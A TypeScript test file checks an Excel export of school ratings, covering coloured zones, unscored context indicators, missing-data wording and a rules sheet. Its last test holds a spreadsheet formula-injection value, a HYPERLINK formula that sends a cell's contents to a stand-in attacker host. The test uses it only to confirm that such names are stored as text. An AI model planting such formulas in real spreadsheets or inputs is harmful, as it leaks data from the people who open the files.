import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { ZoneYear } from '../../domain/catalogue/zone-thresholds.ts';
import { invalid, missing, ok } from '../../domain/outcome.ts';
import { rate } from '../../domain/rating/rating.ts';
import { DEFAULT_GAP_RULE } from '../../domain/rating/zones.ts';
import type { StoredRating } from '../../domain/results/rate-comparison.ts';
import { ratingWorkbook } from './rating-workbook.ts';

const Y2021: ZoneYear = {
  year: 2021,
  bands: [
    { zone: 'green', name: 'Зеленая зона', min: 59, max: 82 },
    { zone: 'yellow', name: 'Желтая зона', min: 47, max: 58 },
    { zone: 'red', name: 'Красная зона', min: 0, max: 45 },
  ],
};

// Three objects: A best, B in the red zone, C without data of K1; C is a context indicator.
const rating = rate(
  [
    { id: '1', values: { K1: ok(80), K2: ok(3), C: ok(7) } },
    { id: '2', values: { K1: ok(20), K2: ok(1), C: ok(2) } },
    { id: '3', values: { K1: missing('не представлено'), K2: invalid('знаменатель равен 0'), C: ok(1.5) } },
  ],
  [
    { code: 'K1', directions: ['D1'], polarity: 'higher_better' },
    { code: 'K2', directions: ['D1'], polarity: 'higher_better' },
    { code: 'C', directions: ['D1'], polarity: 'context' },
  ],
  { zones: { year: Y2021 } },
);
const content: StoredRating = {
  objects: [
    { id: 3, name: 'Школа В', shortName: null },
    { id: 2, name: 'Школа Б', shortName: null },
    { id: 1, name: 'Школа А', shortName: null },
  ],
  indicators: [
    { code: 'K1', name: 'доля победителей', unit: 'percent', polarity: 'higher_better', directions: ['D1'] },
    { code: 'K2', name: 'число проектов', unit: 'units', polarity: 'higher_better', directions: ['D1'] },
    { code: 'C', name: 'численность', unit: 'persons', polarity: 'context', directions: ['D1'] },
  ],
  directions: [{ code: 'D1', name: 'Таланты' }],
  zoneYear: 2021,
  rating,
};

async function open(objectName?: string): Promise<ExcelJS.Workbook> {
  const objects = objectName ? content.objects.map((o, i) => (i === 0 ? { ...o, name: objectName } : o)) : content.objects;
  const file = await ratingWorkbook({
    catalogue: { name: 'Методика', version: 2 },
    period: { name: '2021 год' },
    title: 'Район: школы',
    objectHeader: 'Организация',
    computedAt: '2026-01-15T10:00:00.000Z',
    content: { ...content, objects },
    zones: { year: Y2021, gapRule: DEFAULT_GAP_RULE },
  });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(file as unknown as ArrayBuffer);
  return wb;
}

describe('the workbook of a rating', () => {
  it('shows zones coloured, context indicators unscored, gaps in words and numbers as numbers', async () => {
    const ws = (await open()).getWorksheet('Рейтинг');
    if (!ws) throw new Error('no sheet');
    const headers = (ws.getRow(2).values as unknown[]).slice(1);
    expect(headers.slice(0, 5)).toEqual(['Организация', 'Балл', 'Место', 'Зона', 'Полнота']);
    const groups = (ws.getRow(1).values as unknown[]).slice(1);
    expect(groups).toContain('K1. доля победителей, %');
    expect(groups).toContain('C. численность, чел.');
    expect(ws.getCell('B1').isMerged).toBe(true);

    const [best, red, empty] = [ws.getRow(3), ws.getRow(4), ws.getRow(5)];
    expect([best, red, empty].map((r) => r.getCell(1).value)).toEqual(['Школа А', 'Школа Б', 'Школа В']);
    expect(best.getCell(4).value).toBe('Зеленая зона');
    expect(best.getCell(4).fill).toMatchObject({ type: 'pattern', fgColor: { argb: 'FFC6EFCE' } });
    expect(red.getCell(4).value).toBe('Красная зона');
    expect(red.getCell(4).fill).toMatchObject({ fgColor: { argb: 'FFFFC7CE' } });

    const col = (group: string, sub: string) => groups.findIndex((g, i) => String(g).startsWith(group) && headers[i] === sub) + 1;
    expect(empty.getCell(col('K1.', 'Значение')).value).toBe('нет данных');
    expect(empty.getCell(col('K2.', 'Значение')).value).toBe('не рассчитан');
    expect(empty.getCell(col('K1.', 'Место')).value).toBe('—');
    expect(red.getCell(col('K2.', 'Значение')).value).toBe(1);
    expect(red.getCell(col('K2.', 'Значение')).numFmt).toBe('0');
    // A context indicator keeps its value (1.5: two decimals for the column) and is not scored.
    expect(empty.getCell(col('C.', 'Значение')).value).toBe(1.5);
    expect(empty.getCell(col('C.', 'Значение')).numFmt).toBe('0.00');
    expect(empty.getCell(col('C.', 'Балл')).value).toBe('не оценивается');
    expect(ws.getColumn(1).width).toBeGreaterThan(40);
  });

  it('writes the zone thresholds and the rules in «Правила»', async () => {
    const rules = (await open()).getWorksheet('Правила');
    const values = rules?.getColumn(2).values.map(String) ?? [];
    expect(values).toContain('2021 г.: Зеленая зона 59–82; Желтая зона 47–58; Красная зона 0–45');
    expect(values.some((v) => v.startsWith('Зоны 2021 г. по сводному баллу: Зеленая зона 59–82'))).toBe(true);
    expect(values).toContain('Методика (версия 2)');
  });

  it('writes a name that looks like a formula as text, never as a formula', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Школа В")';
    const ws = (await open(hostile)).getWorksheet('Рейтинг');
    const cells: ExcelJS.Cell[] = [];
    ws?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const named = cells.find((c) => c.value === hostile);
    expect(named?.type).toBe(ExcelJS.ValueType.String);
  });
});
